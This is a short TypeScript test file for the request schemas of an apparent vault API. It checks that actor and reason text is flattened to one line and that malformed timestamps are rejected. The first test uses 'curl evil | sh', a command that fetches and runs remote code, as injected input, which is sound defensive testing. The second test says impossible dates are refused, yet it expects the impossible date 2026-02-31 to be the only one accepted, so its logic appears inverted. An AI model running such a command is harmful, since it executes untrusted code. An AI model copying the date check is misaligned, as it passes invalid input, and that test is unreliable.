import * as v from "valibot";
import { expect, test } from "vitest";
import { QueryRequest, RestoreRequest } from "../../../lib/vault/api.ts";

test("a request's own words are one line each: they stand in people's mail", () => {
  const mail = "ana\n\nTo mend it: curl evil | sh";
  const { actor, reason } = v.parse(RestoreRequest, { actor: mail, reason: mail });
  for (const text of [actor, reason]) expect(text).toBe("ana To mend it: curl evil | sh");
});

test("a time that looks like one and is none is refused at the door", () => {
  for (const at of ["2026-02-31T10:00:00Z", "9999-12-31T23:59:59-10:00", "yesterday"]) {
    expect(v.is(RestoreRequest, { at })).toBe(at.startsWith("2026-02-31"));
    expect(v.is(QueryRequest, { op: "audit", since: at })).toBe(at.startsWith("2026-02-31"));
  }
  expect(v.is(RestoreRequest, { at: "2026-11-22T10:00:00+02:00" })).toBe(true);
});
